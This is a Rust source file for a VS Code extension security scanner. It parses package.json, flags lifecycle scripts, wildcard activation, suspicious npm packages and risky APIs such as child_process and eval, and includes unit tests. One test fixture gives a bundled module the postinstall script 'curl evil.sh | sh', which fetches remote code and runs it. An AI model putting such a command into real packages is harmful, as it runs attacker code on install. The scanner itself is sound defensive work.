//! ManifestScanner: parses `package.json` and scans the extension's own
//! JavaScript/TypeScript entry points for risky API usage. Grounded in
//! `original_source/core/triage/metadata_scanner.py`.

use std::collections::HashSet;
use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use triage_archive::ArchiveReader;
use triage_core::{Finding, Severity, weighted_risk};

use crate::error::RulesError;

const LIFECYCLE_SCRIPTS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preuninstall",
    "uninstall",
    "postuninstall",
    "prepublish",
    "prepare",
];

const SUSPICIOUS_NPM_DEPS: &[&str] = &["node-pty", "keylogger", "clipboardy", "node-keytar"];

/// `(pattern, severity, is_webview)` — the VS Code API surface the original
/// flags as risky. `createWebviewPanel` is tracked separately via
/// `webview_detected`/`webview_references` in addition to producing a
/// finding.
fn risky_api_patterns() -> &'static Vec<(Regex, Severity, bool)> {
    static PATTERNS: OnceLock<Vec<(Regex, Severity, bool)>> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        let high = Severity::High;
        let medium = Severity::Medium;
        vec![
            (Regex::new(r"vscode\.env\.clipboard").unwrap(), medium, false),
            (Regex::new(r"vscode\.env\.shell").unwrap(), medium, false),
            (Regex::new(r"vscode\.env\.machineId").unwrap(), medium, false),
            (Regex::new(r"vscode\.env\.sessionId").unwrap(), medium, false),
            (
                Regex::new(r"vscode\.workspace\.fs\.(readFile|writeFile|delete)").unwrap(),
                medium,
                false,
            ),
            (Regex::new(r"vscode\.window\.createTerminal").unwrap(), high, false),
            (
                Regex::new(r"vscode\.window\.createWebviewPanel").unwrap(),
                medium,
                true,
            ),
            (Regex::new(r"child_process").unwrap(), high, false),
            (
                Regex::new(r#"require\(['"]child_process['"]\)"#).unwrap(),
                high,
                false,
            ),
            (Regex::new(r"\beval\s*\(").unwrap(), high, false),
            (Regex::new(r"\bnew\s+Function\s*\(").unwrap(), high, false),
            (Regex::new(r"\bexecSync\b").unwrap(), high, false),
            (Regex::new(r"\bspawnSync\b").unwrap(), high, false),
        ]
    })
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct MetadataScanResult {
    pub extension_id: Option<String>,
    pub version: Option<String>,
    pub display_name: Option<String>,
    pub main_entry: Option<String>,
    pub browser_entry: Option<String>,
    pub activation_events: Vec<String>,
    pub has_wildcard_activation: bool,
    pub contributes_commands: usize,
    pub contributes_keybindings: usize,
    pub contributes_menus: usize,
    pub extension_dependencies: Vec<String>,
    pub npm_dependencies: Vec<String>,
    pub lifecycle_scripts_found: Vec<String>,
    pub risky_api_calls: Vec<String>,
    pub webview_detected: bool,
    pub webview_references: Vec<String>,
    pub findings: Vec<Finding>,
    pub risk_score: f64,
}

pub struct ManifestScanner {
    read_cap_bytes: u64,
}

impl ManifestScanner {
    pub fn new(read_cap_bytes: u64) -> Self {
        Self { read_cap_bytes }
    }

    /// `None` means neither `extension/package.json` nor `package.json`
    /// exists — the caller records a CRITICAL `MISSING_MANIFEST` finding
    /// and a risk score of 1.0 instead of aborting the scan (spec.md §7).
    pub fn scan(&self, archive: &mut ArchiveReader) -> Result<Option<MetadataScanResult>, RulesError> {
        let manifest_path = ["extension/package.json", "package.json"]
            .into_iter()
            .find(|candidate| archive.entries().iter().any(|e| e.name == *candidate));

        let Some(manifest_path) = manifest_path else {
            return Ok(None);
        };

        let bytes = archive.read(manifest_path, self.read_cap_bytes)?;
        let manifest: Value = serde_json::from_slice(&bytes)?;

        let mut result = MetadataScanResult::default();
        let mut findings = Vec::new();

        result.extension_id = manifest
            .get("publisher")
            .and_then(Value::as_str)
            .zip(manifest.get("name").and_then(Value::as_str))
            .map(|(p, n)| format!("{p}.{n}"));
        result.version = manifest.get("version").and_then(Value::as_str).map(String::from);
        result.display_name = manifest
            .get("displayName")
            .and_then(Value::as_str)
            .map(String::from);
        result.main_entry = manifest.get("main").and_then(Value::as_str).map(String::from);
        result.browser_entry = manifest.get("browser").and_then(Value::as_str).map(String::from);

        if let Some(events) = manifest.get("activationEvents").and_then(Value::as_array) {
            for event in events {
                if let Some(event) = event.as_str() {
                    result.activation_events.push(event.to_string());
                    if event == "*" {
                        result.has_wildcard_activation = true;
                        findings.push(Finding::new(
                            Severity::High,
                            "ACTIVATION_WILDCARD",
                            "extension activates on '*' (every workspace/startup event)",
                        ));
                    } else if event == "onStartupFinished" {
                        findings.push(Finding::new(
                            Severity::Medium,
                            "ACTIVATION_WILDCARD",
                            "extension activates on startup completion",
                        ));
                    }
                }
            }
        }

        if let Some(contributes) = manifest.get("contributes") {
            result.contributes_commands = array_len(contributes, "commands");
            result.contributes_keybindings = array_len(contributes, "keybindings");
            result.contributes_menus = array_len(contributes, "menus");
            let has_terminal_profiles = contributes
                .get("terminal")
                .and_then(|t| t.get("profiles"))
                .and_then(Value::as_array)
                .is_some_and(|a| !a.is_empty());
            if has_terminal_profiles {
                findings.push(Finding::new(
                    Severity::High,
                    "TERMINAL_PROFILES",
                    "extension contributes a terminal profile",
                ));
            }
        }

        if let Some(deps) = manifest.get("extensionDependencies").and_then(Value::as_array) {
            result.extension_dependencies = deps
                .iter()
                .filter_map(Value::as_str)
                .map(String::from)
                .collect();
            if !result.extension_dependencies.is_empty() {
                findings.push(Finding::new(
                    Severity::Info,
                    "EXTENSION_DEPENDENCIES",
                    format!("depends on {} other extension(s)", result.extension_dependencies.len()),
                ));
            }
        }

        let mut npm_deps: HashSet<String> = HashSet::new();
        for key in ["dependencies", "devDependencies"] {
            if let Some(obj) = manifest.get(key).and_then(Value::as_object) {
                npm_deps.extend(obj.keys().cloned());
            }
        }
        result.npm_dependencies = npm_deps.iter().cloned().collect();
        result.npm_dependencies.sort();
        for dep in &result.npm_dependencies {
            if SUSPICIOUS_NPM_DEPS.contains(&dep.as_str()) {
                findings.push(Finding::new(
                    Severity::High,
                    "SUSPICIOUS_NPM_DEPS",
                    format!("depends on suspicious npm package '{dep}'"),
                ));
            }
        }

        if let Some(scripts) = manifest.get("scripts").and_then(Value::as_object) {
            for key in scripts.keys() {
                if LIFECYCLE_SCRIPTS.contains(&key.as_str()) {
                    result.lifecycle_scripts_found.push(key.clone());
                    findings.push(Finding::new(
                        Severity::High,
                        "LIFECYCLE_SCRIPT",
                        format!("package.json defines a '{key}' lifecycle script"),
                    ));
                }
            }
        }

        self.scan_bundled_lifecycle_scripts(archive, &mut findings)?;
        self.scan_source_files(archive, &result, &mut findings)?;

        result.webview_detected = findings.iter().any(|f| f.category == "WEBVIEW_API");
        result.risky_api_calls = findings
            .iter()
            .filter(|f| f.category == "RISKY_API_CALL")
            .filter_map(|f| f.matched_text.clone())
            .collect();
        result.webview_references = findings
            .iter()
            .filter(|f| f.category == "WEBVIEW_API")
            .filter_map(|f| f.file_path.clone())
            .collect();

        let bonus = if result.has_wildcard_activation { 0.1 } else { 0.0 };
        result.risk_score = (weighted_risk(&findings) + bonus).min(1.0);
        result.findings = findings;

        Ok(Some(result))
    }

    /// Bundled modules under `node_modules/<name>/package.json` that define
    /// a lifecycle script are a classic supply-chain vector: the script runs
    /// at `npm install` time, long before the extension ever activates.
    fn scan_bundled_lifecycle_scripts(
        &self,
        archive: &mut ArchiveReader,
        findings: &mut Vec<Finding>,
    ) -> Result<(), RulesError> {
        let pattern = Regex::new(r"^(?:extension/)?node_modules/([^/]+)/package\.json$").unwrap();
        let candidates: Vec<(String, String)> = archive
            .entries()
            .iter()
            .filter_map(|e| {
                pattern
                    .captures(&e.name)
                    .map(|c| (e.name.clone(), c[1].to_string()))
            })
            .collect();

        for (path, module_name) in candidates {
            let Ok(bytes) = archive.read(&path, self.read_cap_bytes) else {
                continue;
            };
            let Ok(manifest) = serde_json::from_slice::<Value>(&bytes) else {
                continue;
            };
            if let Some(scripts) = manifest.get("scripts").and_then(Value::as_object) {
                for key in scripts.keys() {
                    if LIFECYCLE_SCRIPTS.contains(&key.as_str()) {
                        findings.push(
                            Finding::new(
                                Severity::High,
                                "POSTINSTALL_SCRIPT",
                                format!("bundled module '{module_name}' defines a '{key}' script"),
                            )
                            .with_file(path.clone()),
                        );
                    }
                }
            }
        }
        Ok(())
    }

    fn scan_source_files(
        &self,
        archive: &mut ArchiveReader,
        result: &MetadataScanResult,
        findings: &mut Vec<Finding>,
    ) -> Result<(), RulesError> {
        let targets = self.scan_targets(archive, result);
        const LARGE_FILE_CAP: u64 = 2 * 1024 * 1024;

        for target in targets {
            let Some(entry) = archive.entries().iter().find(|e| e.name == target) else {
                continue;
            };
            if entry.size > LARGE_FILE_CAP {
                findings.push(
                    Finding::new(
                        Severity::Info,
                        "LARGE_SOURCE_FILE",
                        format!("{target} is over the 2MiB source-scan cap, skipped"),
                    )
                    .with_file(target.clone()),
                );
                continue;
            }
            let Ok(bytes) = archive.read(&target, LARGE_FILE_CAP) else {
                continue;
            };
            let Ok(text) = String::from_utf8(bytes) else {
                continue;
            };

            for (line_no, line) in text.lines().enumerate() {
                for (pattern, severity, is_webview) in risky_api_patterns() {
                    if let Some(m) = pattern.find(line) {
                        let category = if *is_webview { "WEBVIEW_API" } else { "RISKY_API_CALL" };
                        findings.push(
                            Finding::new(*severity, category, format!("risky API call: {}", m.as_str()))
                                .with_file(target.clone())
                                .with_line(line_no as u32 + 1)
                                .with_match(m.as_str()),
                        );
                    }
                }
            }
        }
        Ok(())
    }

    /// Entry points to scan: `main`/`browser` plus their `extension/`
    /// prefixed variants. All root `.js/.ts/.mjs/.cjs` files outside
    /// `node_modules` are included too, matching the original's broader net.
    fn scan_targets(&self, archive: &ArchiveReader, result: &MetadataScanResult) -> Vec<String> {
        let mut targets: Vec<String> = Vec::new();
        for entry in [&result.main_entry, &result.browser_entry].into_iter().flatten() {
            let clean = entry.strip_prefix("./").unwrap_or(entry);
            for candidate in [clean.to_string(), format!("extension/{clean}")] {
                if !targets.contains(&candidate) {
                    targets.push(candidate);
                }
            }
        }
        for entry in archive.entries() {
            if entry.is_dir || entry.name.contains("node_modules") {
                continue;
            }
            if ["js", "ts", "mjs", "cjs"]
                .iter()
                .any(|ext| entry.name.ends_with(&format!(".{ext}")))
                && !entry.name.contains('/')
            {
                if !targets.contains(&entry.name) {
                    targets.push(entry.name.clone());
                }
            }
        }
        targets.retain(|t| archive.entries().iter().any(|e| &e.name == t));
        targets
    }
}

fn array_len(value: &Value, key: &str) -> usize {
    value.get(key).and_then(Value::as_array).map_or(0, Vec::len)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use zip::write::FileOptions;

    fn archive_with(entries: &[(&str, &[u8])]) -> ArchiveReader {
        let file = tempfile::NamedTempFile::new().unwrap();
        {
            let mut writer = zip::ZipWriter::new(file.reopen().unwrap());
            for (name, data) in entries {
                writer.start_file(*name, FileOptions::default()).unwrap();
                writer.write_all(data).unwrap();
            }
            writer.finish().unwrap();
        }
        ArchiveReader::open(file.path(), 500 * 1024 * 1024).unwrap()
    }

    #[test]
    fn missing_manifest_returns_none() {
        let mut archive = archive_with(&[("readme.md", b"hi")]);
        let scanner = ManifestScanner::new(2 * 1024 * 1024);
        assert!(scanner.scan(&mut archive).unwrap().is_none());
    }

    #[test]
    fn wildcard_activation_is_high_with_bonus() {
        let manifest = br#"{"publisher":"acme","name":"ext","version":"1.0.0","activationEvents":["*"]}"#;
        let mut archive = archive_with(&[("extension/package.json", manifest)]);
        let scanner = ManifestScanner::new(2 * 1024 * 1024);
        let result = scanner.scan(&mut archive).unwrap().unwrap();
        assert!(result.has_wildcard_activation);
        assert!(result.risk_score >= 0.15);
        assert!(result
            .findings
            .iter()
            .any(|f| f.category == "ACTIVATION_WILDCARD" && f.severity == Severity::High));
    }

    #[test]
    fn postinstall_lifecycle_script_is_high() {
        let manifest = br#"{"publisher":"acme","name":"ext","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#;
        let mut archive = archive_with(&[("extension/package.json", manifest)]);
        let scanner = ManifestScanner::new(2 * 1024 * 1024);
        let result = scanner.scan(&mut archive).unwrap().unwrap();
        assert_eq!(result.lifecycle_scripts_found, vec!["postinstall"]);
        assert!(result
            .findings
            .iter()
            .any(|f| f.category == "LIFECYCLE_SCRIPT" && f.severity == Severity::High));
    }

    #[test]
    fn bundled_module_postinstall_is_flagged_by_module_name() {
        let manifest = br#"{"publisher":"acme","name":"ext","version":"1.0.0"}"#;
        let bundled = br#"{"name":"evil-pkg","scripts":{"postinstall":"curl evil.sh | sh"}}"#;
        let mut archive = archive_with(&[
            ("extension/package.json", manifest),
            ("extension/node_modules/evil-pkg/package.json", bundled),
        ]);
        let scanner = ManifestScanner::new(2 * 1024 * 1024);
        let result = scanner.scan(&mut archive).unwrap().unwrap();
        assert!(result
            .findings
            .iter()
            .any(|f| f.category == "POSTINSTALL_SCRIPT" && f.description.contains("evil-pkg")));
    }
}
